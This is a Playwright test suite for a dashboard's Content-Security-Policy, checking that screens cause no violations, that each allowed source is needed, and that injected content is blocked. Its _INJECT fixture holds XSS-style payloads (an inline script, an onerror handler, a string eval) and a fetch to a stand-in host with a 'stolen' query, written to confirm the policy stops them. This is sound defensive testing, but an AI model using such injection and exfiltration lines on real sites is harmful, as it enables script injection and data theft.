"""The content security policy: our screens keep to it and need all of it, and it stops what is injected."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from dashboard.security_headers import SECURITY_HEADERS
from dashboard.texts import texts
from tests.browsers import PATIENCE
from tests.dashboard.processes import serving
from tests.e2e.conftest import ON_SQLITE
from tests.e2e.files import changed_file, faulty_file
from tests.e2e.screen import SCREENS, WALL_SCREENS, open_screen, send_file, wait_until_drawn
from tests.e2e.site import Site, running_site

POLICY = "Content-Security-Policy"
_NOTE = """
    window.violations = []
    addEventListener("securitypolicyviolation", (event) => {
        violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`)
    })
"""
_INJECT = """() => {
    const script = document.createElement("script")
    script.textContent = "window.injected = 'script'"
    const image = document.createElement("div")
    image.innerHTML = "<img src='data:,' onerror=\\"window.injected = 'handler'\\">"
    const frame = document.createElement("iframe")
    frame.src = "data:text/html,<p>elsewhere"
    const form = document.createElement("form")
    form.action = "http://elsewhere.example/"
    document.body.append(script, image, frame, form)
    form.submit()
    fetch("http://elsewhere.example/?stolen").catch(() => null)
    setTimeout("window.injected = 'eval'", 0)
}"""
# What a violation calls what a policy allows.
_NAMED = {
    ("script-src", "blob"): "blob:",
    ("script-src", "inline"): "'sha256'",
    ("script-src", "wasm-eval"): "'wasm-unsafe-eval'",
    ("style-src", "inline"): "'unsafe-inline'",
    ("img-src", "data"): "data:",
    ("font-src", "data"): "data:",
}
# Our server, but for a second policy which allows nothing and only tells what it would stop.
_LAUNCHER = """
import runpy, sys
sys.path.insert(0, ".")
from dashboard.security_headers import SECURITY_HEADERS
SECURITY_HEADERS["Content-Security-Policy-Report-Only"] = "default-src 'none'"
sys.argv = ["app.py"]
runpy.run_path("app.py", run_name="__main__")
"""
_STOPPED = ("connect-src", "form-action", "frame-src", "script-src", "script-src-attr", "script-src-elem")


@pytest.fixture
def watched(browser: Browser) -> Iterator[BrowserContext]:
    """A browser whose pages note each violation in `violations`."""
    context = browser.new_context(viewport={"width": 1920, "height": 1080})
    context.set_default_timeout(PATIENCE)
    context.add_init_script(_NOTE)
    yield context
    context.close()


def _violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("violations")
    return found


@ON_SQLITE
def test_no_screen_does_what_the_policy_forbids(site: Site, watched: BrowserContext) -> None:
    page = watched.new_page()
    seen = {}
    for name, path in {**SCREENS, **WALL_SCREENS}.items():
        open_screen(page, site, path)
        seen[name] = _violations(page)
    assert {name: found for name, found in seen.items() if found} == {}


@ON_SQLITE
def test_nor_does_what_is_opened_sent_and_taken_along(
    sample_copies: Callable[[], str], watched: BrowserContext, tmp_path: Path
) -> None:
    """A calendar, a file with faults, one that is applied, a download, the keys of the wall."""
    page = watched.new_page()
    with running_site(sample_copies()) as site:
        open_screen(page, site, "/milestones", "en")
        with page.expect_download() as download:
            page.locator("[data-testid=stDownloadButton] button").first.click()
        assert download.value.path().stat().st_size > 0
        found = _violations(page)
        open_screen(page, site, "/upload", "en")
        page.locator("[data-testid=stDateInput] [role=group]").click()
        page.locator("[role=grid]").first.wait_for()
        page.keyboard.press("Escape")
        for make, shown in ((faulty_file, ".faults"), (changed_file, ".changed")):
            found += _violations(page)
            open_screen(page, site, "/upload", "en")
            send_file(page, make(site, tmp_path))
            page.locator(shown).first.wait_for()
        page.get_by_role("button", name=texts("en").gettext("Apply these changes")).click()
        page.locator(".verdict").first.wait_for()
        found += _violations(page)
        open_screen(page, site, "/session?item=1", "en")
        page.keyboard.press("?")
        page.locator(".wall-keys").wait_for()
        wait_until_drawn(page)
        assert found + _violations(page) == []


@ON_SQLITE
def test_what_the_policy_allows_is_needed(
    sample_copies: Callable[[], str], watched: BrowserContext, tmp_path: Path
) -> None:
    """The same screens told of a second policy that allows nothing: what it would stop is what ours names."""
    launcher = tmp_path / "launcher.py"
    launcher.write_text(_LAUNCHER)
    with serving(str(launcher), folder=tmp_path, DATABASE_URL=sample_copies()) as server:
        server.wait_until_up()
        address = f"http://127.0.0.1:{server.port}"
        page = watched.new_page()
        stopped = set()
        for path in (
            SCREENS["overview"],
            SCREENS["problem"],
            SCREENS["milestones"],
            WALL_SCREENS["wall-item"],
        ):
            page.goto(address + path)
            wait_until_drawn(page)
            stopped |= {_source(found, address) for found in _violations(page)}
    assert stopped == _allowed(SECURITY_HEADERS[POLICY])


def _source(violation: str, address: str) -> tuple[str, str]:
    """The directive that a violation is about, and what a policy would have to name."""
    directive, blocked, _file = violation.split(" ")
    directive = directive.removesuffix("-elem").removesuffix("-attr")
    own = (address, address.replace("http", "ws"))
    return directive, "'self'" if blocked.startswith(own) else _NAMED.get((directive, blocked), blocked)


def _allowed(policy: str) -> set[tuple[str, str]]:
    parts = [part.split(" ") for part in policy.split("; ")]
    return {
        (directive, "'sha256'" if source.startswith("'sha256-") else source)
        for directive, *sources in parts
        for source in sources
        if directive.endswith("-src") and source != "'none'"
    }


@ON_SQLITE
def test_what_is_injected_neither_runs_nor_calls_home(site: Site, watched: BrowserContext) -> None:
    page = watched.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_screen(page, site, "/")
    page.evaluate(_INJECT)
    page.wait_for_function(
        "(stopped) => stopped.every((one) => violations.some((found) => found.startsWith(`${one} `)))",
        arg=list(_STOPPED),
    )
    assert page.evaluate("window.injected || null") is None
    assert page.url.startswith(site.address)
    assert [url for url in asked if "elsewhere" in url] == []
